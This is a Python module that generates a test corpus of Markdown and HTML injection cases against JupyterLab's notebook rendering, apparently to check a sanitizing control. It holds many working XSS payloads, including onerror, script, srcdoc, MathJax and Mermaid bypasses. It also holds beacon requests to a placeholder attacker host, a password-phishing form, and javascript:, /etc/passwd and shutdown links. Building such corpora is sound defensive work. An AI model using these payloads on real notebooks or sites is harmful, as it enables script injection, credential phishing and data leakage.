r"""What an answer may try: own cases for every class that does something in a notebook's page.

``RUN`` stands for a script that writes the case's name into ``top.pwned``, ``SITE`` for the
attacker's server, ``NAME`` for the case's name. ``trap`` is what the case does in JupyterLab as
Markdown that IPython shows; the control holds each of them to it:

    runs   its script runs
    asks   the attacker's server is asked for /NAME
    own    the user's own server is asked for attack-NAME
    shows  something stays in the output that is more than text, tables, lists, code and links
    none   nothing today, or it would take the page away from the control
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Literal

Trap = Literal["runs", "asks", "own", "shows", "none"]

RUN = "(top.pwned=top.pwned??[]).push('{name}')"  # without a pipe, for tables
IMG = '<img src="data:image/png,x" onerror="RUN">'
# Runs without a click, and ends the attribute it is put into.
SEEN = '" style="content-visibility:auto" oncontentvisibilityautostatechange="RUN" x="'
BLOCK = SEEN.replace('auto"', 'auto;display:block"', 1)
SOLID = BLOCK.replace(" ", "/")
# A diagram with a picture.
DRAWN = 'flowchart TD; a@{ img: "SITE/NAME", label: "x", h: 60, w: 60 }'


@dataclass(frozen=True)
class Case:
    """One attack: its class, a name of its own, its text, and what it does unhindered."""

    kind: str
    name: str
    pattern: str
    trap: Trap

    def text(self, site: str) -> str:
        """Return the Markdown, with the attacker's address in it."""
        made = self.pattern.replace("RUN", RUN.format(name=self.name))
        return made.replace("NAME", self.name).replace("SITE", site)


RUNS: dict[str, tuple[str, ...]] = {
    "img onerror": (
        IMG,
        '<IMG SRC="data:image/png,x" OnError="RUN">',
        '<img\nsrc="data:image/png,x"\nonerror="RUN">',
        '<img src="data:image/png,x" onerror="eval(&quot;RUN&quot;)">',
        '<img src="data:image/png,x" onerror="&#x20;RUN">',
        f"<div>{IMG}</div>",
        f"<p>text {IMG} text</p>",
        f"<picture><source>{IMG}</picture>",
        f"text {IMG} text",
        f"*text {IMG} text*",
        f"| a |\n|---|\n| {IMG} |",
        f"- item\n\n  {IMG}",
        f"> {IMG}",
        f"# {IMG}",
        f"[text {IMG}](https://example.org)",
    ),
    "script": (
        "<script>RUN</script>",
        "<SCRIPT>RUN</SCRIPT>",
        '<script type="text/javascript">RUN</script>',
        "<script>\nRUN\n</script>",
        "<div><script>RUN</script></div>",
    ),
    "details": (
        '<details open ontoggle="RUN"><summary>a</summary>b</details>',
        '<DETAILS OPEN ONTOGGLE="RUN"><SUMMARY>a</SUMMARY>b</DETAILS>',
        '<div><details open ontoggle="RUN">b</details></div>',
        '<details ontoggle="RUN" open="">\n\n*b*\n\n</details>',
    ),
    "srcdoc": (
        '<iframe srcdoc="<script>RUN</script>"></iframe>',
        '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
        '<iframe srcdoc="<svg onload=&quot;RUN&quot;>"></iframe>',
        '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>RUN</script>"></iframe>',
    ),
    "handlers": (
        '<style onload="RUN"></style>',
        '<iframe onload="RUN"></iframe>',
        '<link rel="stylesheet" href="data:text/css," onload="RUN">',
        '<video><source src="data:video/mp4,x" onerror="RUN"></video>',
        '<audio src="data:audio/wav,x" onerror="RUN"></audio>',
        '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></animate></svg>',
        '<svg><set onbegin="RUN" attributeName="x" dur="1s"></set></svg>',
    ),
    # JupyterLab puts formulas back into the finished HTML, and escapes no language of code.
    "put back": (
        f'[x](https://example.org "${BLOCK}$")',
        f"[x](https://example.org/${SOLID}$)",
        f"see https://example.org/${SOLID}$ there",
        f"see www.example.org/${SOLID}$ there",
        f'[x][NAME]\n\n[NAME]: https://example.org "${BLOCK}$"',
        f'[x](https://example.org "\\begin{{x}}{BLOCK}\\end{{x}}")',
        f'a ${BLOCK}$ b [x](https://example.org "\\@@0\\@@")',
        f"a ${BLOCK}$ b [x](https://example.org/\\@@0\\@@)",
        f"```${SOLID}$\ncode\n```",
        f"```{SOLID}\ncode\n```",
        f"a \\begin{{x}}\n```\n\\end{{x}} {IMG}\n```",
        f"```\n\\begin{{x}}\n```\n\\end{{x}}\n\n```\n{IMG}\n```",
        f"> a $\n> \n> ```\n> $ {IMG}\n> ```",
    ),
    "mathml": (f"<math><mtext>{IMG}</mtext></math>",),
    "svg": (f"<svg><foreignObject>{IMG}</foreignObject></svg>",),
}
ASKS: dict[str, tuple[str, ...]] = {
    "picture": (
        "![x](SITE/NAME)",
        '![x](SITE/NAME "title")',
        "![x](<SITE/NAME>)",
        "![](SITE/NAME)",
        "![x *y* z](SITE/NAME)",
        "[![x](SITE/NAME)](https://example.org)",
        "**![x](SITE/NAME)**",
        "## ![x](SITE/NAME)",
        "- ![x](SITE/NAME)",
        "> ![x](SITE/NAME)",
        "| a |\n|---|\n| ![x](SITE/NAME) |",
        "~~![x](SITE/NAME)~~",
    ),
    "reference picture": (
        "![x][NAME]\n\n[NAME]: SITE/NAME",
        "![NAME][]\n\n[NAME]: SITE/NAME",
        "![NAME]\n\n[NAME]: SITE/NAME",
        "![x][NAME]\n\n[NAME]: <SITE/NAME> 'title'",
        "[NAME]: SITE/NAME\n\n> ![x][NAME]",
    ),
    "img src": (
        '<img src="SITE/NAME">',
        "<img src='SITE/NAME'>",
        "<img src=SITE/NAME>",
        '<img crossorigin="use-credentials" src="SITE/NAME">',
        '<img referrerpolicy="unsafe-url" width="1" height="1" src="SITE/NAME">',
        '<p>text <img src="SITE/NAME"></p>',
    ),
    "srcset": (
        '<img srcset="SITE/NAME 1x">',
        '<img srcset="SITE/NAME 100w" sizes="100vw">',
        '<picture><source srcset="SITE/NAME"><img></picture>',
    ),
    "poster": ('<video poster="SITE/NAME"></video>', '<video poster="SITE/NAME" muted></video>'),
    "media": (
        '<audio src="SITE/NAME" autoplay></audio>',
        '<video src="SITE/NAME" preload="auto"></video>',
        '<video preload="auto"><source src="SITE/NAME"></video>',
        '<embed src="SITE/NAME">',
    ),
    "css url": (
        '<p style="background:url(SITE/NAME)">paper</p>',
        "<p style=\"background-image:url('SITE/NAME')\">paper</p>",
        '<p style="BACKGROUND:URL(SITE/NAME)">paper</p>',
        '<li style="list-style-image:url(SITE/NAME);display:list-item">item</li>',
        '<p style="content:url(SITE/NAME)">paper</p>',
        '<p style="border:1px solid;border-image-source:url(SITE/NAME)">paper</p>',
        "<p style=\"background:image-set('SITE/NAME' 1x)\">paper</p>",
        '<p style="--x:url(SITE/NAME);background:var(--x)">paper</p>',
        '<table background="SITE/NAME"><tr><td>a</td></tr></table>',
        '<table><tr><td background="SITE/NAME">a</td></tr></table>',
    ),
    "style": (
        "<style>@import url(SITE/NAME);</style>",
        '<style>@import "SITE/NAME";</style>',
        "<style>.attackNAME{background:url(SITE/NAME)}</style>\n\n<p class='attackNAME'>a</p>",
        "<style>@font-face{font-family:NAME;src:url(SITE/NAME)}.fNAME{font-family:NAME}</style>"
        "\n\n<p class='fNAME'>a</p>",
    ),
    "link": (
        '<link rel="stylesheet" href="SITE/NAME">',
        '<LINK REL="StyleSheet" HREF="SITE/NAME">',
        '<link rel="preload" as="image" href="SITE/NAME">',
        '<link rel="alternate stylesheet" title="x" href="SITE/NAME">',
        '<link rel="modulepreload" href="SITE/NAME">',
    ),
    "object": (
        '<object data="SITE/NAME"></object>',
        '<object type="text/html" data="SITE/NAME"></object>',
    ),
    "iframe": (
        '<iframe src="SITE/NAME"></iframe>',
        '<iframe sandbox src="SITE/NAME" width="0" height="0"></iframe>',
        '<iframe name="front" src="SITE/NAME"></iframe>',
    ),
    "svg": (
        '<svg><image href="SITE/NAME" width="9" height="9"/></svg>',
        '<svg><image xlink:href="SITE/NAME" width="9" height="9"/></svg>',
    ),
    "form": ('<input type="image" src="SITE/NAME">',),
    "mermaid": (
        '```mermaid\ngraph TD; a["<img src=SITE/NAME onerror=RUN>"]\n```',
        '```mermaid\nflowchart TD\n  a@{ img: "SITE/NAME", label: "x", h: 60, w: 60 }\n```',
        '~~~mermaid\nflowchart TD\n  a@{ img: "SITE/NAME", label: "x" }\n~~~',
        '```mermaid\n%%{init: {"themeCSS": ".node{background:url(SITE/NAME)}"}}%%\n'
        "graph TD; a-->b\n```",
        # Front ends strip an info string of all that Unicode calls blank.
        f"```\u00a0mermaid\n{DRAWN}\n```",
        f"```\u3000mermaid\n{DRAWN}\n```",
        f"~~~\u2003mermaid\u00a0\n{DRAWN}\n~~~",
        f"``` \u1680 mermaid\n{DRAWN}\n```",
        f"- item\n\n  ```\u00a0mermaid\n  {DRAWN}\n  ```",
        f"1. ```\u205fmermaid\n   {DRAWN}\n   ```",
        f"> ~~~\u202fmermaid\n> {DRAWN}\n> ~~~",
    ),
}
OWN: dict[str, tuple[str, ...]] = {
    "own picture": (
        "![x](attack-NAME)",
        "![x](./attack-NAME)",
        "![x](/api/attack-NAME)",
        '<img src="attack-NAME">',
        '<img src="/files/attack-NAME">',
        "![x][NAME]\n\n[NAME]: attack-NAME",
    )
}
SHOWS: dict[str, tuple[str, ...]] = {
    "style": ("<style>body{outline-color:rgb(1, 2, 3) !important}</style>",),
    "fixed": (
        '<div style="position:fixed;inset:0;z-index:9999;background:red">over it all</div>',
        '<div style="POSITION : FIXED;top:0;left:0">over it all</div>',
        '<p style="position:sticky;top:0">over it all</p>',
        '<p style="position:absolute;top:-900px;left:0">over it all</p>',
        '<span style="position:fixed;top:0">over it all</span>',
    ),
    "form": (
        '<form action="SITE/NAME"><input name="password"><button>Sign in</button></form>',
        '<button formaction="SITE/NAME">Sign in</button>',
        '<form><textarea name="key">your key</textarea></form>',
        "<select><option>one</option></select>",
    ),
    "self link": (
        '<a href="javascript:RUN" target="_self">go</a>',
        '<a href="JAVASCRIPT:RUN" target="_self">go</a>',
        '<a href="&#106;avascript:RUN" target="_self">go</a>',
    ),
    "commandlinker": (
        '<button data-commandlinker-command="notebook:insert-cell-below"'
        ' data-commandlinker-args="{}">More</button>',
        '<a href="#" data-commandlinker-command="notebook:run-all-cells">More</a>',
        '<span data-commandlinker-command="notebook:insert-cell-below">More</span>',
        '<p data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</p>',
    ),
    "ping": (
        '<a href="https://example.org" ping="SITE/NAME">go</a>',
        "<a href='https://example.org' PING='SITE/NAME SITE/NAME'>go</a>",
    ),
    "clobber": (
        '<p id="jupyter-config-data">{}</p>',
        '<p id="main">text</p>',
        '<a id="jupyterapp" name="jupyterapp">text</a>',
        '<a id="front"></a><a id="front" name="panel">text</a>',
        '<span id="__proto__">text</span>',
    ),
    "handlers": (
        '<p onmouseover="RUN">over</p>',
        '<p onclick="RUN">click</p>',
        '<p contenteditable onblur="RUN">edit</p>',
        '<p tabindex="0" onfocus="RUN">focus</p>',
    ),
    "mathml": (
        '<math><mi href="javascript:RUN">x</mi></math>',
        '<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>',
        '<math href="javascript:RUN"><mi>x</mi></math>',
    ),
}
NONE: dict[str, tuple[str, ...]] = {
    "svg": (
        '<svg onload="RUN"><a xlink:href="javascript:RUN"><text>go</text></a></svg>',
        '<svg><use href="SITE/NAME#x"/></svg>',
        "<svg><script>RUN</script></svg>",
        "<svg><style>@import url(SITE/NAME);</style></svg>",
    ),
    "style": ("<style>#main{display:none}</style>", "<style>*{visibility:hidden}"),
    "meta": (
        '<meta http-equiv="refresh" content="0;url=SITE/NAME">',
        "<meta http-equiv='Refresh' content='0;url=javascript:RUN'>",
        '<meta name="referrer" content="unsafe-url">',
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    ),
    "base": ('<base href="SITE/base/">', '<base target="_self" href="SITE/">'),
    "handlers": (
        '<input autofocus onfocus="RUN">',
        '<body onload="RUN">',
        '<marquee onstart="RUN">text</marquee>',
        "<img src=data:image/png,x onerror=RUN>",
        '<img/src="data:image/png,x"/onerror="RUN">',
    ),
    "clobber": (
        '<form id="body" name="body"><input name="style"></form>',
        '<iframe name="jupyterapp"></iframe>',
        '<img name="getElementById">',
    ),
    "link": (
        '<link rel="dns-prefetch" href="SITE/"><link rel="preconnect" href="SITE/">',
        '<link rel="manifest" href="SITE/NAME"><link rel="icon" href="SITE/NAME">',
    ),
    "object": (
        '<object data="javascript:RUN"></object>',
        '<applet code="SITE/NAME"></applet>',
        '<embed src="javascript:RUN">',
    ),
    "put back": (
        f"a $\n~~~\n$ {IMG}\n~~~",
        f"a ${BLOCK}$ b [x](https://example.org/&#64;@0@@)",
        f'[x](https://example.org/a"{BLOCK}"b)',
    ),
    "iframe": ('<iframe src="javascript:RUN"></iframe>', '<frameset><frame src="SITE/NAME">'),
    "javascript link": (
        "[go](javascript:RUN)",
        "[go](JaVaScRiPt:RUN)",
        "[go](&#106;avascript:RUN)",
        "[go](&#x6A;avascript&colon;RUN)",
        "<javascript:RUN>",
        "[go](<javascript:RUN> 'x')",
        "[go](<java\tscript:RUN>)",
        "[go][NAME]\n\n[NAME]: javascript:RUN",
        '[go](javascript:RUN "title")',
        "[**go**](javascript:RUN)",
        "[go](data:text/html,<script>RUN</script>)",
        "[go](vbscript:RUN)",
        "[go](file:///etc/passwd)",
        "[go](command:workbench.action.terminal.new)",
        "[go](blob:SITE/NAME)",
        "[go](/api/shutdown)",
        "[go](#main)",
        "[go](//example.org)",
        "[go](https://user:pass@example.org/)",
        "[go](<#main>)",
        "[go](<\u2060/api/shutdown>)",
        "[go](http:/api/shutdown)",
        "[go]\n\n[go]: </api/shutdown>",
        "[go](http://localhost:8888/logout)",
        "[go](http://127.1:8888/logout)",
        "[go](http://2130706433/logout)",
        "[go](http://0x7f000001/logout)",
        "[go](http://0177.0.0.1/logout)",
        "[go](http://[::1]:8888/logout)",
        "http://localhost:8888/logout and www.example.org@localhost:8888/logout",
    ),
    "self link": ('<a href=" javascript:RUN" target="_self">go</a>',),
    "picture": (
        "![x](//attack-NAME.invalid/x)",
        "![x](javascript:RUN)",
        "![x](data:image/svg+xml,<svg/onload=RUN>)",
        "![![x](SITE/NAME-inner)](SITE/NAME)",
        "!\\[x](SITE/NAME)",
        '![x](SITE/NAME\n"title")',
    ),
    "latex": (
        "$\\href{javascript:RUN}{x}$",
        "$\\href{SITE/NAME}{x}$",
        "$$\\href{javascript:RUN}{x}$$",
        "\\(\\url{javascript:RUN}\\)",
        "$\\style{position:fixed;top:0}{x}$",
        "$\\style{background:url(SITE/NAME)}{x}$",
        "$\\class{jp-Dialog}{x}$",
        "\\[\\cssId{main}{x} = 1\\]",
        "$$\\unicode[x;background:url(SITE/NAME)]{65}$$",
        "$$\\includegraphics{SITE/NAME}$$",
        "\\[\\require{html}\\href{javascript:RUN}{x} = 1\\]",
        "$\\mmlToken{mi}[href='javascript:RUN']{x}$",
        "$\\data{commandlinker-command=notebook:insert-cell-below}{x}$",
        "$\\def\\frac{owned}\\frac{1}{2}$",
        "$\\newcommand{\\x}{\\href{javascript:RUN}{x}}\\x$",
        f"$</span>{IMG}$",
        f"\\[</script>{IMG} = 1\\]",
        f"$\\text{{{IMG}}}$",
        f"\\begin{{x}}{IMG}\\end{{x}}",
    ),
    "mermaid": (
        '```mermaid\n%%{init: {"themeCSS": "@import url(SITE/NAME);"}}%%\ngraph TD; a-->b\n```',
        "```mermaid\ngraph TD; a-->b; style a background:url(SITE/NAME)\n```",
        '```mermaid\ngraph TD; a-->b; click a "javascript:RUN"\n```',
        '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\n'
        'graph TD; a["<b onclick=RUN>x</b>"]\n```',
        '~~~mermaid\ngraph TD; a-->b; click a href "SITE/NAME" _self\n~~~',
        f"```\u00a0MERMAID\n{DRAWN}\n```",
        f"```mer&#109;aid\n{DRAWN}\n```",
        f"```python\u00a0mermaid\n{DRAWN}\n```",
        f"```{{mermaid}}\n{DRAWN}\n```",
        f"````markdown\n```mermaid\n{DRAWN}\n```\n````",
        f"```markdown\n```\u00a0mermaid\n{DRAWN}\n```\n```",
        f"::: mermaid\n{DRAWN}\n:::",
        "```{image} SITE/NAME\n```",
        ":::{figure} SITE/NAME\n:::",
    ),
    "code": (
        '```"><img src="SITE/NAME" onerror="RUN">\ncode\n```',
        f"```html\n{IMG}\n```",
        f"```python\n# </code></pre>{IMG}\n```",
        f"~~~ html {IMG}\n{IMG}\n~~~",
        f"`{IMG}`",
        f"    {IMG}",
        f"``` \n{IMG}",
        # Front ends look for formulas before they look for code.
        f"`` \\begin{{x}} `` ` \\end{{x}} `{IMG}`",
        f"costs $5 `$ {IMG}`",
        f"`$$`\n\n```html\n$$ {IMG}\n```",
        f"> ```html\n> \\begin{{x}}\n> ```\n> \\end{{x}}\n>\n> ```\n> {IMG}\n> ```",
        f"- ```\n  \\begin{{x}}\n  ```\n- \\end{{x}}\n  ```\n  {IMG}\n  ```",
        f"| `{IMG} | b` |\n|---|---|\n| a | b |",
        f"<br>\n`{IMG}`",
        f"<sub>\n`{IMG}`\n</sub>",
        f"`a\n+ {IMG}`",
        f"$$\n```html\n$$\n{IMG}\n```",
        f"[a]: /u 'x\n```\ny'\n{IMG}\n```",
    ),
    "broken": (
        f"<!-->{IMG}-->",
        f"<!--\n{IMG}\n-->",
        f"<![CDATA[{IMG}]]>",
        f"<noscript><p title='</noscript>{IMG}'>",
        f"<math><mtext></form><form><mglyph><style></math>{IMG}",
        f"<template>{IMG}</template>",
        "<x:img/src=x onerror=RUN>",
        f"<<img>{IMG}",
        '<img src="data:image/png,x" onerror="RUN"',
        '<img src="data:image/png,x" onerror="RUN" <b>',
        "&lt;img src=x onerror=RUN&gt;",
        "&#60;img src=x onerror=RUN&#62;",
        f"\\{IMG}",
        f"<a title='{IMG}'>text</a>",
        f"</div></div></div>{IMG}",
        f"<textarea></textarea>{IMG}",
        f"<xmp>{IMG}</xmp>",
        f"<?php {IMG} ?>",
        f"<!DOCTYPE x [{IMG}]>",
        f"<plaintext>{IMG}",
        f"<select><option>{IMG}",
    ),
}


def _cases() -> tuple[Case, ...]:
    traps: Mapping[Trap, Mapping[str, tuple[str, ...]]] = {
        "runs": RUNS,
        "asks": ASKS,
        "own": OWN,
        "shows": SHOWS,
        "none": NONE,
    }
    return tuple(
        Case(kind, f"{trap}-{re.sub(r'[^a-z]', '-', kind)}-{number}", pattern, trap)
        for trap, kinds in traps.items()
        for kind, patterns in kinds.items()
        for number, pattern in enumerate(patterns)
    )


CASES = _cases()
KINDS = tuple(dict.fromkeys(case.kind for case in CASES))
FRAMES = (
    "- {}",
    "> {}",
    "# {}",
    "**{}",
    "| a | b |\n|:-:|---|\n| {} | {} |",
    '[{}](https://example.org "{}")',
    "[^1] \n\n[^1]: {}",
    "`{}",
    "text {} &lt;{}",
)


def plain(site: str) -> str:
    """Return all cases, one after the other."""
    return "\n\n".join(case.text(site) for case in CASES)


def framed(site: str) -> str:
    """Return the cases inside of other Markdown, those of the sample in several ways."""
    few = sample()
    lines = []
    for at, case in enumerate(CASES):
        text = case.text(site)
        if "\n" not in text:
            ways = 3 if case in few else 1
            frames = [FRAMES[(at + 3 * way) % len(FRAMES)] for way in range(ways)]
            lines += [frame.replace("{}", text) for frame in frames]
    short = (text for case in CASES if "\n" not in (text := case.text(site)))
    return "\n\n".join([*lines, "\n".join(short)])


def sample() -> list[Case]:
    """Return the first case of every class and trap."""
    return list({(case.kind, case.trap): case for case in reversed(CASES)}.values())
